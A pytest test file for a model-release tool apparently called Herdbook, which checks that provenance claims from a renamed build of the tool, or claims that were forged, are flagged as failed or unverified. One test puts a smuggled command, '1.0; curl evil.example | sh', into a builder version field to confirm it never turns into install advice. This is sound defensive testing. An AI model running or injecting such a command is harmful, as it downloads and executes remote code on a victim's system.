"""Verifying a release that another version of Herdbook built, and those of builders who only say so.

The other version is a copy of this one with a module renamed, in a process of its own. Sources are on a local Hub.
"""

import json
import shutil
import subprocess
from pathlib import Path

import pytest
from pytest_local_hub import LocalHub, client

from herdbook.errors import RecipeError
from herdbook.export.archive import pack
from herdbook.layout import CLAIMS
from herdbook.plan import code, parsed
from herdbook.provenance import slsa
from herdbook.release import reader
from herdbook.release.finding import Outcome
from herdbook.release.subject import open_subject
from support import forkserver, loaded, tiny
from support.sampled import sampled
from support.verification import findings, status

REPOSITORY = Path(__file__).parents[2]
VERSION = "0.1.0rc1"
ADVICE = f"pip install herdbook=={VERSION}"
LASER = {"rank": {"fraction": 0.5}, "matrices": ["mlp.down_proj"]}
MODELS = {
    "base": {"hub": "herd/base"},
    "tuned": {"hub": "herd/tuned"},
    "cut": {"laser": "tuned", **LASER},
    "mean": {
        "merge": {"method": "linear", "models": [{"model": one, "weight": 1} for one in ("base", "tuned")]}
    },
    "mix": {
        "moe": {
            "base": "base",
            "gate": "random",  # others load transformers
            "experts": [{"model": "cut"}, {"model": "mean"}],
        }
    },
}
# The process has our version, and libraries, from the server that it is forked from.
BUILD = """
import sys
for name in [name for name in sys.modules if name.partition(".")[0] in {"herdbook", "support"}]:
    del sys.modules[name]
sys.path.insert(0, sys.argv[3])
from pathlib import Path
import herdbook
assert herdbook.__file__.startswith(sys.argv[3]), herdbook.__file__
from herdbook.steps.attest.step import attest
from herdbook.steps.card.step import render_card
from herdbook.steps.release.step import release
from support import tiny
plan = tiny.build(Path(sys.argv[1]), Path(sys.argv[2]))
render_card(plan, plan.layout.card_folder)
release(plan)
attest(plan, None)
"""


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    root = tmp_path_factory.mktemp("hub")
    with pytest.MonkeyPatch.context() as patch, LocalHub() as hub:
        client.use(hub, root / "home", patch)
        for seed, name in enumerate(("base", "tuned")):
            folder = tiny.write_model(root / name, seed=seed, shards=2)
            files = {path.name: path.read_bytes() for path in folder.iterdir()}
            hub.add_repo(f"herd/{name}", files, license="apache-2.0")
        yield hub


@pytest.fixture(scope="module")
def built(hub, tmp_path_factory):
    """The release of the other version, in which the module that reduces matrices has another name."""
    root = tmp_path_factory.mktemp("other")
    ours = root / "src/herdbook"
    shutil.copytree(REPOSITORY / "src/herdbook", ours)
    shutil.copytree(REPOSITORY / "templates", root / "templates")
    (ours / "steps/laser/reduce.py").rename(ours / "steps/laser/cut.py")
    for path in ours.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "herdbook.steps.laser.reduce" in text:
            path.write_text(text.replace("herdbook.steps.laser.reduce", "herdbook.steps.laser.cut"), "utf-8")
    (ours / "__init__.py").write_text(f'__version__ = "{VERSION}"\n', encoding="utf-8")
    (root / "pins.lock").write_text(f"herdbook=={VERSION}\n", encoding="utf-8")
    recipe = tiny.write_recipe(root / "r.yaml", MODELS)
    subprocess.run(
        [forkserver.PYTHON, "-c", BUILD, recipe, root / "results", root / "src"],
        cwd=root,
        env={
            **client.environment(hub, root / "home"),
            "HERDBOOK_PINS": str(root / "pins.lock"),
        },
        check=True,
    )
    folder = root / "results/Tiny/release"
    loaded.check(folder)
    return folder


@pytest.fixture
def folder(built, tmp_path):
    """A copy of it, to change."""
    return shutil.copytree(built, tmp_path / "copy")


def forge(folder, change):
    """Change the provenance, as a builder can who writes everything himself."""
    first, *others = (folder / CLAIMS).read_text().splitlines()
    statement = json.loads(first)
    change(statement["predicate"], statement["predicate"]["buildDefinition"]["internalParameters"])
    text = json.dumps(statement, sort_keys=True, separators=(",", ":"))
    (folder / CLAIMS).write_text("\n".join([text, *others]) + "\n")


def as_this_version(monkeypatch):
    """Let the program that verifies have the version that the release names."""
    version = parsed.package_version
    monkeypatch.setattr(
        parsed, "package_version", lambda name: VERSION if name == "herdbook" else version(name)
    )


def bad(found):
    return [one for one in found if one.outcome is not Outcome.PASSED]


def checks(found):
    return {(one.level, one.check, one.outcome) for one in bad(found)}


@pytest.mark.slow
def test_what_needs_no_code_passes_and_what_does_is_unverified(built):
    found = findings(built, "recomputed", sample_bytes=None)
    assert status(found) == 9
    (told,) = bad(found)
    assert (told.level, told.check, told.outcome) == ("recomputed", "made", Outcome.UNVERIFIED)
    assert "`laser`" in told.detail
    assert ADVICE in told.detail
    assert status([one for one in found if one.level != "recomputed"]) == 0
    (named,) = [one for one in found if one.check == "code"]
    assert named.subject == "laser"
    assert ADVICE in named.detail
    assert {one.check for one in found if one.level == "recomputed"} >= {"card", "routers"}


@pytest.mark.parametrize("seed", sampled(range(3), every=3))
def test_no_sample_leaves_out_that_something_cannot_be_recomputed(built, seed):
    """It has room for one tensor, and most of them were merged, by code that is installed."""
    found = [one for one in findings(built, "recomputed", sample_bytes=1, seed=seed) if one.check == "made"]
    assert status(found) == 9
    (told,) = bad(found)
    assert told.subject == "2 tensors"
    assert ADVICE in told.detail
    assert [one.detail for one in found if "merge: reproduced bit by bit" in one.detail]
    assert "1 of 8 tensors" in found[-1].detail


def test_a_rebuild_by_other_code_is_unverified(built):
    (told,) = [one for one in findings(built, "rebuild") if one.level == "rebuild"]
    assert told.outcome is Outcome.UNVERIFIED
    assert ADVICE in told.detail


def test_other_code_under_the_name_of_this_version_is_a_failure(built, monkeypatch):
    as_this_version(monkeypatch)
    found = findings(built, "recomputed")
    assert status(found) == 8
    assert checks(found) == {("claims", "code", Outcome.FAILED), ("recomputed", "made", Outcome.FAILED)}
    assert not any("pip install" in one.detail for one in found)


def test_a_key_or_code_that_was_changed_is_a_failure(folder):
    def other_key(_, internal):
        internal["keys"]["cut"] = "0" * 64

    def other_code(_, internal):
        internal["operations"]["laser"]["modules"]["herdbook.steps.laser.cut"] = "0" * 64

    honest = (folder / CLAIMS).read_text()
    for change, expected in ((other_key, {"cut"}), (other_code, {"cut", "mix"})):
        (folder / CLAIMS).write_text(honest)
        forge(folder, change)
        found = findings(folder)
        assert status(found) == 8
        assert {one.subject for one in bad(found) if one.check == "keys"} == expected


def lacking_code(_, internal):
    del internal["operations"]["laser"]


def earlier_type(predicate, internal):
    """What earlier versions wrote: one list of all code."""
    predicate["buildDefinition"]["buildType"] = "urn:herdbook:buildtype:release:v1"
    operations = internal.pop("operations").values()
    internal["code"] = {
        name: value for one in operations for kind in one.values() for name, value in kind.items()
    }


@pytest.mark.parametrize(
    ("change", "named"), [(lacking_code, "`laser`"), (earlier_type, "urn:herdbook:buildtype:release:v1")]
)
def test_what_cannot_be_derived_is_unverified_only_of_another_version(
    folder, monkeypatch, change, named, tmp_path
):
    forge(folder, change)
    found = findings(folder, "rebuild")
    assert status(found) == 9
    assert {one.level for one in bad(found)} == {"claims", "recomputed", "rebuild"}
    assert all(named in one.detail and ADVICE in one.detail for one in bad(found))
    with pytest.raises(code.UnverifiedError, match=ADVICE):
        pack(open_subject(str(folder)), tmp_path / "crate", "2026-01-02")
    as_this_version(monkeypatch)
    assert status(findings(folder)) == 8


def test_a_recipe_that_this_version_refuses_is_unverified(built, monkeypatch):
    def refuse(*_):
        raise RecipeError("models.cut: is not understood")

    monkeypatch.setattr(reader, "make", refuse)
    found = findings(built)
    assert status(found) == 9
    assert [one.detail for one in bad(found) if "is not understood" in one.detail and ADVICE in one.detail]
    as_this_version(monkeypatch)
    assert status(findings(built)) == 8


def test_claims_that_other_code_writes_in_another_way_are_unverified(built, monkeypatch):
    """But only if that code is another one, and never a claim about other files."""
    monkeypatch.setattr(slsa, "BUILDER", "urn:herdbook:builder:other:v1")
    assert status(findings(built)) == 8
    digest = parsed.module_digest
    monkeypatch.setattr(
        parsed, "module_digest", lambda name: "0" if name == "herdbook.provenance.slsa" else digest(name)
    )
    found = findings(built)
    assert status(found) == 9
    assert {one.check for one in bad(found)} == {"claims"}
    assert all(ADVICE in one.detail for one in bad(found))


def test_a_claim_about_other_files_is_a_failure_whatever_wrote_it(folder, monkeypatch):
    digest = parsed.module_digest
    monkeypatch.setattr(
        parsed, "module_digest", lambda name: "0" if name == "herdbook.provenance.slsa" else digest(name)
    )
    first, *others = (folder / CLAIMS).read_text().splitlines()
    statement = json.loads(first)
    statement["subject"][0]["digest"]["sha256"] = "0" * 64
    (folder / CLAIMS).write_text("\n".join([json.dumps(statement), *others]) + "\n")
    found = findings(folder)
    assert status(found) == 8
    (told,) = [one for one in found if one.outcome is Outcome.FAILED]
    assert told.subject == statement["subject"][0]["name"]


def test_what_is_no_version_never_becomes_advice(folder):
    def lie(predicate, _):
        predicate["runDetails"]["builder"]["version"]["herdbook"] = "1.0; curl evil.example | sh"

    forge(folder, lie)
    found = findings(folder, "recomputed")
    assert status(found) == 8
    assert not any("pip install" in one.detail for one in found)
